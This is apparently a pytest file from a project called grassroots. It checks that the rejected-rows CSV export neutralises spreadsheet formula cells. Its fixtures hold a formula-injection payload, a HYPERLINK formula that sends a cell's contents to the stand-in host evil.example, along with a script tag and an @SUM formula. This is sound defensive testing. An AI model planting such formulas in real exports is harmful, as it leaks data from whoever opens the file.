"""One writer for every rejected-rows file (issue 14 §10): ``grassroots import --rejects``
writes what the screens and the API download, formula cells defused."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from grassroots.cli import main
from grassroots.people.imports import selectors
from grassroots.people.models import ImportBatch
from grassroots.people.tests.test_import import ROLL_HEADER, ROLL_ROWS, write_csv

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")


@pytest.fixture
def hostile_roll(tmp_path) -> Path:
    bad = ROLL_ROWS[0][:]
    bad[4], bad[5] = "WKH0000042", "<script>x</script>"  # not a name: the row is rejected
    bad[6] = EVIL  # and a formula in another cell
    tabbed = ROLL_ROWS[2][:]
    tabbed[4], tabbed[5] = "WKH0000043", "@SUM(1+1)"  # a formula as the name: rejected too
    return write_csv(tmp_path / "roll.csv", ROLL_HEADER, [ROLL_ROWS[1], bad, tabbed])


def rows_of(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_the_cli_rejects_file_is_defused(geo, capsys, tmp_path, hostile_roll):
    out = tmp_path / "rejects.csv"
    code = main(["import", str(hostile_roll), "--template", "india-roll", "--rejects", str(out)])
    assert code == 0, capsys.readouterr().err
    text = out.read_bytes().decode("utf-8")
    assert EVIL not in text.replace("'" + EVIL, "")  # only ever with the prefix
    rows = rows_of(text)
    assert rows[0] == [*ROLL_HEADER, "Grassroots: why rejected"]
    cells = [c for row in rows[1:] for c in row]
    assert "'" + EVIL in cells
    assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]
    # the same bytes as the screens' and the API's download
    batch = ImportBatch.objects.get()
    assert text == "".join(selectors.rejected_rows_csv(batch))


def test_a_row_without_formulas_comes_back_as_its_exact_text(geo, tmp_path):
    bad = ROLL_ROWS[0][:]
    bad[5] = "<script>x</script>"
    path = write_csv(tmp_path / "roll.csv", ROLL_HEADER, [bad])
    out = tmp_path / "rejects.csv"
    assert main(["import", str(path), "--template", "india-roll", "--rejects", str(out)]) == 0
    original = path.read_text(encoding="utf-8").splitlines()
    lines = out.read_text(encoding="utf-8")[1:].splitlines()
    assert lines[1].startswith(original[1] + ",")
